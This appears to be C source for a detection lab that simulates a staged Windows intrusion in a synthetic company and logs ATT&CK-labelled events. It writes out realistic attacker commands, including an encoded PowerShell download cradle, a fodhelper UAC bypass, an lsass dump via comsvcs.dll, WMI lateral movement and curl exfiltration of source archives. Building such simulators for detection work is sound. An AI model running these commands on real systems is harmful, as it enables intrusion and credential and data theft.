#include "lab/attack.h"

#include <stdio.h>

#include "base/time.h"

/* What the intruder knows at any moment. */
struct intrusion {
    struct world *world;
    struct truth *truth;
    struct host *first, *second, *target;
    const struct shift *shift; /* of the first machine's user */
    const struct shift *second_shift;
    uint64_t site; /* where everything is fetched from and brought to */
    uint32_t shell, elevated, second_shell, target_shell; /* process slots */
    char script[96], name[24];
};

static struct host *victim(const struct world *world, unsigned turn)
{
    static const enum department wanted[2] = {DEPARTMENT_SALES, DEPARTMENT_PLANNING};
    const struct enterprise *enterprise = &world->enterprise;
    uint32_t pcs = enterprise->host_count - enterprise->server_count;
    uint32_t at = (uint32_t)(random_mix(world->seed, 0x76696374u + turn) % pcs);
    for (uint32_t i = 0; i < pcs; i++) {
        struct host *host = &enterprise->hosts[enterprise->server_count + (at + i) % pcs];
        /* the last PC is the new employee's, who knows nobody yet */
        if (host->department == wanted[turn] && host->index + 1 < enterprise->host_count)
            return host;
    }
    return &enterprise->hosts[enterprise->server_count + 1 + turn];
}

enum demand attack_demand(const struct world *world, const struct host *host)
{
    if (host == victim(world, 0))
        return DEMAND_RESTART;
    return host == victim(world, 1) ? DEMAND_WORK : DEMAND_NONE;
}

/* Base64 of the UTF-16LE of ASCII text: what powershell -EncodedCommand takes. */
static void encode_command(struct buffer *out, const char *text)
{
    static const char digits[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    size_t length = strlen(text) * 2;
    for (size_t i = 0; i < length; i += 3) {
        uint32_t group = 0;
        for (size_t k = 0; k < 3; k++)
            group =
                group << 8 | (i + k < length && (i + k) % 2 == 0 ? (uint8_t)text[(i + k) / 2] : 0);
        for (size_t k = 0; k < 4; k++)
            buffer_put_char(out, i + k > length ? '=' : digits[group >> (18 - 6 * k) & 63]);
    }
}

/* A command of the intruder's, as a child of one of his shells; ends by itself. */
static uint32_t command_run(struct intrusion *in, uint32_t shell, enum program_id program,
                            int64_t time, const char *command)
{
    const struct process *parent = &in->world->processes[shell];
    struct start start = {.host = &in->world->enterprise.hosts[parent->host],
                          .program = program,
                          .parent = shell,
                          .user = parent->user,
                          .time = time,
                          .command = command};
    return process_run(in->world, start, time + 20 * TIME_MINUTE);
}

/* A shell that stays until `end`, and calls home now and then. */
static uint32_t shell_run(struct intrusion *in, struct start start, int64_t end)
{
    struct world *world = in->world;
    uint32_t slot = process_start(world, start);
    process_work(world, slot, start.time + 200000000, start.time + TIME_MINUTE, 8);
    int64_t time = start.time + 2 * TIME_SECOND;
    while (time < end - TIME_MINUTE) {
        connect_site(world, slot, time, in->site);
        time += random_between(&world->random, 4 * TIME_MINUTE, 11 * TIME_MINUTE);
    }
    process_end(world, slot, end);
    return slot;
}

/* 1. A document by mail, a macro, a shell that fetches the rest. */
static void phish(struct intrusion *in, int64_t time)
{
    struct world *world = in->world;
    const struct seat *seat = &in->shift->seats[0];
    char site[64], decoded[256], command[1400], document[128];
    struct buffer text = {0};
    text_put_site(&text, in->site);
    snprintf(site, sizeof site, "%.*s", (int)text.len, text.at);
    snprintf(decoded, sizeof decoded,
             "IEX (New-Object Net.WebClient).DownloadString('https://%s/%s')", site, in->name);
    buffer_clear(&text);
    encode_command(&text, decoded);
    snprintf(command, sizeof command, "powershell.exe -NoP -W Hidden -Enc %.*s", (int)text.len,
             text.at);
    buffer_finish(&text);
    snprintf(document, sizeof document, "%s%08X\\%s_2025.docm\"",
             "C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\",
             (uint32_t)random_next(&world->random), in->name);
    char opened[400];
    snprintf(opened, sizeof opened,
             "\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE\" /n \"%s /o \"\"",
             document);
    document[strlen(document) - 1] = 0;
    event_file(world, seat->outlook ? seat->outlook : seat->explorer, time - 3 * TIME_SECOND,
               EVENT_FILE_CREATE, document);
    uint32_t word =
        process_run_for(world,
                        (struct start){.host = in->first,
                                       .program = PROGRAM_WINWORD,
                                       .parent = seat->outlook ? seat->outlook : seat->explorer,
                                       .user = in->first->user,
                                       .time = time,
                                       .command = opened},
                        1500, seat->to - 20 * TIME_SECOND);
    truth_step(in->truth, world, time, word, "T1566.001", "a document from a mail is opened");
    time += random_between(&world->random, 20 * TIME_SECOND, 70 * TIME_SECOND);
    in->shell = shell_run(in,
                          (struct start){.host = in->first,
                                         .program = PROGRAM_POWERSHELL,
                                         .parent = word,
                                         .user = in->first->user,
                                         .time = time,
                                         .command = command},
                          seat->to - 30 * TIME_SECOND);
    event_script(world, in->shell, time + TIME_SECOND, decoded);
    truth_step(in->truth, world, time, in->shell, "T1059.001",
               "its macro starts powershell with an encoded command");
    truth_step(in->truth, world, time + 2 * TIME_SECOND, in->shell, "T1105",
               "which fetches the next stage through the proxy");
}

/* 2. Looking around with what Windows brings along. */
static void discover(struct intrusion *in, int64_t time)
{
    static const struct {
        enum program_id program;
        const char *command, *technique, *what;
    } looks[] = {
        {PROGRAM_WHOAMI, "whoami /all", "T1033", "who am I, and what may I"},
        {PROGRAM_IPCONFIG, "ipconfig /all", "T1016", "which network is this"},
        {PROGRAM_SYSTEMINFO, "systeminfo", "T1082", "which system is this"},
        {PROGRAM_NET, "net user /domain", "T1087.002", "who has an account"},
        {PROGRAM_NET, "net group \"Domain Admins\" /domain", "T1069.002", "who is administrator"},
        {PROGRAM_NLTEST, "nltest /domain_trusts", "T1482", "which domains are trusted"},
        {PROGRAM_ARP, "arp -a", "T1018", "which machines are near"},
        {PROGRAM_TASKLIST, "tasklist /svc", "T1057", "what runs here"},
    };
    for (unsigned i = 0; i < sizeof looks / sizeof *looks; i++) {
        if (random_chance(&in->world->random, 0.15))
            continue;
        uint32_t slot = command_run(in, in->shell, looks[i].program, time, looks[i].command);
        truth_step(in->truth, in->world, time, slot, looks[i].technique, looks[i].what);
        time += random_between(&in->world->random, 8 * TIME_SECOND, 240 * TIME_SECOND);
    }
}

/* 3. Something that starts again after a restart. */
static void persist(struct intrusion *in, int64_t time)
{
    char command[400];
    snprintf(in->script, sizeof in->script, "C:\\Users\\%s\\AppData\\Roaming\\Microsoft\\%s.vbs",
             in->world->enterprise.users[in->first->user].name, in->name);
    event_file(in->world, in->shell, time, EVENT_FILE_CREATE, in->script);
    snprintf(command, sizeof command,
             "reg.exe add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v %s /t REG_SZ "
             "/d \"wscript.exe //B %s\" /f",
             in->name, in->script);
    uint32_t reg = command_run(in, in->shell, PROGRAM_REG, time + 40 * TIME_SECOND, command);
    char key[160], data[160];
    snprintf(key, sizeof key, "HKU\\{sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\%s",
             in->name);
    snprintf(data, sizeof data, "wscript.exe //B %s", in->script);
    event_registry(in->world, reg, time + 40 * TIME_SECOND + 90000000, key, data);
    truth_step(in->truth, in->world, time + 40 * TIME_SECOND, reg, "T1547.001",
               "a Run key will start a script at the next logon");
}

/* 4. The next logon starts it. */
static void come_back(struct intrusion *in)
{
    const struct seat *seat = &in->shift->seats[1];
    char command[160];
    int64_t time = seat->from - 2 * TIME_MINUTE + 10 * TIME_SECOND;
    snprintf(command, sizeof command, "\"C:\\Windows\\System32\\wscript.exe\" //B %s", in->script);
    struct start start = {.host = in->first,
                          .program = PROGRAM_WSCRIPT,
                          .parent = seat->explorer,
                          .user = in->first->user,
                          .time = time,
                          .command = command};
    uint32_t script = process_run(in->world, start, time + 20 * TIME_SECOND);
    event_file(in->world, script, time + 20000000, EVENT_FILE_ACCESS, in->script);
    start = (struct start){.host = in->first,
                           .program = PROGRAM_POWERSHELL,
                           .parent = script,
                           .user = in->first->user,
                           .time = time + 600000000,
                           .command = "powershell.exe -NoP -W Hidden -C \"IEX (gp HKCU:\\Software\\"
                                      "Microsoft\\Notepad).lf\""};
    in->shell = shell_run(in, start, seat->to - 40 * TIME_SECOND);
    truth_step(in->truth, in->world, time, script, "T1547.001",
               "after the restart the Run key starts the script");
    truth_step(in->truth, in->world, start.time, in->shell, "T1059.001",
               "which starts powershell again");
}

/* 5. Administrator's rights, then the secrets in lsass's memory. */
static void steal_credentials(struct intrusion *in, int64_t time)
{
    struct world *world = in->world;
    uint32_t reg = command_run(in, in->shell, PROGRAM_REG, time,
                               "reg.exe add HKCU\\Software\\Classes\\ms-settings\\shell\\open\\"
                               "command /d powershell.exe /f");
    event_registry(world, reg, time + 50000000,
                   "HKU\\{sid}_Classes\\ms-settings\\shell\\open\\command\\(Default)",
                   "powershell.exe");
    time += 12 * TIME_SECOND;
    uint32_t helper = command_run(in, in->shell, PROGRAM_FODHELPER, time, NULL);
    truth_step(in->truth, world, time, helper, "T1548.002",
               "fodhelper starts a shell with full rights");
    in->elevated = shell_run(in,
                             (struct start){.host = in->first,
                                            .program = PROGRAM_POWERSHELL,
                                            .parent = helper,
                                            .user = in->first->user,
                                            .time = time + TIME_SECOND,
                                            .command = "\"powershell.exe\""},
                             in->shift->seats[1].to - TIME_MINUTE);
    uint32_t lsass = host_running(in->first, PROGRAM_LSASS, time);
    char command[200], dump[64];
    snprintf(dump, sizeof dump, "C:\\Windows\\Temp\\%08x.tmp",
             (uint32_t)random_next(&world->random));
    snprintf(command, sizeof command,
             "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump %u %s full",
             world->processes[lsass].pid, dump);
    time += random_between(&world->random, 4 * TIME_MINUTE, 15 * TIME_MINUTE);
    uint32_t dumper = command_run(in, in->elevated, PROGRAM_RUNDLL32, time, command);
    event_module(world, dumper, time + 40000000, "C:\\Windows\\System32\\comsvcs.dll");
    event_access(world, dumper, time + 60000000, lsass, "0x1fffff");
    event_file(world, dumper, time + 90000000, EVENT_FILE_CREATE, dump);
    truth_step(in->truth, world, time, dumper, "T1003.001", "rundll32 writes lsass's memory");
    connect_site(world, in->elevated, time + 3 * TIME_MINUTE, in->site);
}

/* The other end of a remote step: an administrator's network logon. */
static void remote_logon(struct intrusion *in, struct host *to, const struct host *from,
                         int64_t time)
{
    event_logon(in->world, to, time, EVENT_LOGON,
                (struct logon){.user = USER_ADMIN,
                               .type = 3,
                               .id = random_next(&in->world->random) >> 36,
                               .from = from});
}

/* 6. To a second PC: a file over SMB, a process by WMI. */
static void move_to_pc(struct intrusion *in, int64_t time)
{
    struct world *world = in->world;
    struct host *to = in->second;
    char command[300], script[64], start_script[160];
    snprintf(script, sizeof script, "C:\\Windows\\Temp\\%s.ps1", in->name);
    snprintf(command, sizeof command, "net use \\\\%s\\C$ /user:HINODE\\%s *", to->name,
             world->enterprise.users[USER_ADMIN].name);
    uint32_t net = command_run(in, in->elevated, PROGRAM_NET, time, command);
    connect_host(world, host_running(in->first, PROGRAM_SYSTEM, time), time + 60000000, to, 445);
    remote_logon(in, to, in->first, time + 100000000);
    truth_step(in->truth, world, time, net, "T1021.002",
               "with an administrator's account to another PC's disk");
    event_file(world, host_running(to, PROGRAM_SYSTEM, time), time + 30 * TIME_SECOND,
               EVENT_FILE_CREATE, script);
    time += random_between(&world->random, 60 * TIME_SECOND, 300 * TIME_SECOND);
    snprintf(start_script, sizeof start_script, "powershell.exe -NoP -W Hidden -File %s", script);
    snprintf(command, sizeof command, "wmic /node:%s process call create \"%s\"", to->name,
             start_script);
    uint32_t wmic = command_run(in, in->elevated, PROGRAM_WMIC, time, command);
    connect_host(world, wmic, time + 200000000, to, 135);
    remote_logon(in, to, in->first, time + 300000000);
    truth_step(in->truth, world, time, wmic, "T1047", "WMI starts the script there");
    in->second_shell = shell_run(in,
                                 (struct start){.host = to,
                                                .program = PROGRAM_POWERSHELL,
                                                .parent = host_running(to, PROGRAM_WMIPRVSE, time),
                                                .user = USER_ADMIN,
                                                .time = time + 700000000,
                                                .command = start_script},
                                 in->second_shift->leaves - TIME_MINUTE);
    truth_step(in->truth, world, time + 700000000, in->second_shell, "T1059.001",
               "a shell on the second PC");
    time += random_between(&world->random, 3 * TIME_MINUTE, 9 * TIME_MINUTE);
    char service[48];
    snprintf(service, sizeof service, "%sSvc", in->name);
    event_service(world, to, time, service, start_script);
    truth_step(in->truth, world, time, host_running(to, PROGRAM_SERVICES, time), "T1543.003",
               "a service will start it again");
}

/* 7. On to a development server, and everything of value into one archive. */
static void collect(struct intrusion *in, int64_t time, char archive[64])
{
    struct world *world = in->world;
    struct host *to = in->target;
    char script[160];
    snprintf(script, sizeof script, "Invoke-Command -ComputerName %s -ScriptBlock { hostname }",
             to->name);
    event_script(world, in->second_shell, time, script);
    connect_host(world, in->second_shell, time + 100000000, to, 5985);
    remote_logon(in, to, in->second, time + 200000000);
    in->target_shell =
        process_run_for(world,
                        (struct start){.host = to,
                                       .program = PROGRAM_WSMPROVHOST,
                                       .parent = host_running(to, PROGRAM_SVC_DCOM, time),
                                       .user = USER_ADMIN,
                                       .time = time + 600000000},
                        INT64_C(75) * 60, time + 90 * TIME_MINUTE);
    truth_step(in->truth, world, time, in->target_shell, "T1021.006",
               "remote management opens a shell on a development server");
    command_run(in, in->target_shell, PROGRAM_WHOAMI, time + 20 * TIME_SECOND, "whoami");
    time += random_between(&world->random, 6 * TIME_MINUTE, 14 * TIME_MINUTE);
    snprintf(archive, 64, "C:\\Windows\\Temp\\%s%04x.tgz", in->name,
             random_below(&world->random, 0x10000));
    char command[160];
    snprintf(command, sizeof command, "tar.exe -czf %s D:\\repos", archive);
    uint32_t tar = process_run_for(world,
                                   (struct start){.host = to,
                                                  .program = PROGRAM_TAR,
                                                  .parent = in->target_shell,
                                                  .user = USER_ADMIN,
                                                  .time = time,
                                                  .command = command},
                                   240, time + 10 * TIME_MINUTE);
    for (int64_t n = 0; n < 60; n++)
        event_file(world, tar, time + n * 3 * TIME_SECOND + TIME_SECOND, EVENT_FILE_ACCESS,
                   "D:\\repos\\{project}.git\\objects\\pack\\pack-{hex}{hex}{hex}{hex}{hex}.pack");
    event_file(world, tar, time + TIME_SECOND, EVENT_FILE_CREATE, archive);
    truth_step(in->truth, world, time, tar, "T1560.001", "tar packs the repositories");
}

/* 8. Back to the second PC, and out through the proxy. */
static void steal(struct intrusion *in, int64_t time, const char *archive)
{
    struct world *world = in->world;
    char command[300], local[96];
    snprintf(local, sizeof local, "C:\\Users\\Public\\%s.tgz", in->name);
    connect_host(world, host_running(in->second, PROGRAM_SYSTEM, time), time, in->target, 445);
    remote_logon(in, in->target, in->second, time + 50000000);
    event_file(world, host_running(in->target, PROGRAM_SYSTEM, time), time + 100000000,
               EVENT_FILE_ACCESS, archive);
    event_file(world, in->second_shell, time + 300000000, EVENT_FILE_CREATE, local);
    truth_step(in->truth, world, time, in->second_shell, "T1570", "the archive is fetched");
    time += random_between(&world->random, 5 * TIME_MINUTE, 16 * TIME_MINUTE);
    struct buffer site = {0};
    text_put_site(&site, in->site);
    snprintf(command, sizeof command, "curl.exe -s -x http://%s:8080 -T %s https://%.*s/u/",
             host_of(&world->enterprise, ROLE_PROXY)->name, local, (int)site.len, site.at);
    buffer_finish(&site);
    uint32_t curl = process_run_for(world,
                                    (struct start){.host = in->second,
                                                   .program = PROGRAM_CURL,
                                                   .parent = in->second_shell,
                                                   .user = USER_ADMIN,
                                                   .time = time,
                                                   .command = command},
                                    300, time + 8 * TIME_MINUTE);
    event_file(world, curl, time + 60000000, EVENT_FILE_ACCESS, local);
    for (int64_t n = 0; n < 5; n++)
        connect_site(world, curl, time + 200000000 + n * 50 * TIME_SECOND, in->site);
    truth_step(in->truth, world, time, curl, "T1048.002", "curl carries it out of the house");
    in->truth->theft = time;
    time += 7 * TIME_MINUTE;
    snprintf(command, sizeof command, "cmd.exe /c del %s", local);
    uint32_t cmd = command_run(in, in->second_shell, PROGRAM_CMD, time, command);
    event_file(world, cmd, time + 100000000, EVENT_FILE_DELETE, local);
    truth_step(in->truth, world, time, cmd, "T1070.004", "the copy is deleted");
}

void attack_run(struct world *world, const struct shift *shifts, struct truth *truth)
{
    static const char *const names[] = {"OfficeSync", "PrintHelper", "FontCache",
                                        "ShareIndex", "MailNotify",  "DriveCheck"};
    struct intrusion in = {.world = world,
                           .truth = truth,
                           .first = victim(world, 0),
                           .second = victim(world, 1),
                           .target = host_of(&world->enterprise, ROLE_GIT),
                           .site = 4000 + random_below(&world->random, 100000)};
    char archive[64];
    int64_t day = world->day_start;
    snprintf(in.name, sizeof in.name, "%s", names[random_below(&world->random, 6)]);
    in.shift = &shifts[in.first->index];
    in.second_shift = &shifts[in.second->index];
    world->intruder = true;
    int64_t time =
        day + 10 * TIME_HOUR + random_between(&world->random, 0 * TIME_MINUTE, 35 * TIME_MINUTE);
    phish(&in, time);
    discover(&in, time + random_between(&world->random, 6 * TIME_MINUTE, 15 * TIME_MINUTE));
    persist(&in, time + random_between(&world->random, 35 * TIME_MINUTE, 60 * TIME_MINUTE));
    come_back(&in);
    time =
        day + 13 * TIME_HOUR + random_between(&world->random, 45 * TIME_MINUTE, 65 * TIME_MINUTE);
    steal_credentials(&in, time);
    time += random_between(&world->random, 30 * TIME_MINUTE, 50 * TIME_MINUTE);
    move_to_pc(&in, time);
    time += random_between(&world->random, 25 * TIME_MINUTE, 40 * TIME_MINUTE);
    collect(&in, time, archive);
    steal(&in, time + random_between(&world->random, 35 * TIME_MINUTE, 50 * TIME_MINUTE), archive);
    world->intruder = false;
}
